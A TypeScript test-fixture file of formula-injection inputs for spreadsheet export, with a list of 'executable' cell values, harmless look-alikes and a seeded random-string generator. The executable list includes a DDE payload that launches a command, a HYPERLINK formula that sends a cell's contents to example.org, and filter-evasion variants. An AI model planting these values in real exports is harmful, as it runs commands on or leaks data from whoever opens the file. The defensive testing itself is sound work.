/** What a spreadsheet would run, after OWASP's list and the known DDE tricks. */
export const executable = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"klik")',
  '+31612345678',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
  "'=1",
  "''=1",
]

/** What looks like it and is not, or breaks a careless writer. */
export const harmless = [
  "'t Hof",
  "'s-Gravenhage",
  '007',
  '1234 AB',
  'Sæbjörg Ĳsbrand Çağrı',
  'É', // E and a combining accent.
  'a;b,c"d',
  'twee\nregels',
  '<b>&amp;</b>',
  '\\n \\, \\;',
  '1E5',
  '2018-05-14',
  '😀👩‍👧‍👦',
]

/** Texts out of all of it, the same at each run. */
export function* randomTexts(count: number, seed = 7): Generator<string, void, void> {
  const letters = [...'=+-@\t\r\n\'"`;,|\\ aåéßĳ0…＝😀', '\u0301', '\u00A0', '\u200F']
  let state = seed
  const next = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff
    return state % below
  }
  for (let made = 0; made < count; made++) {
    yield Array.from({ length: next(12) }, () => letters[next(letters.length)]).join('')
  }
}
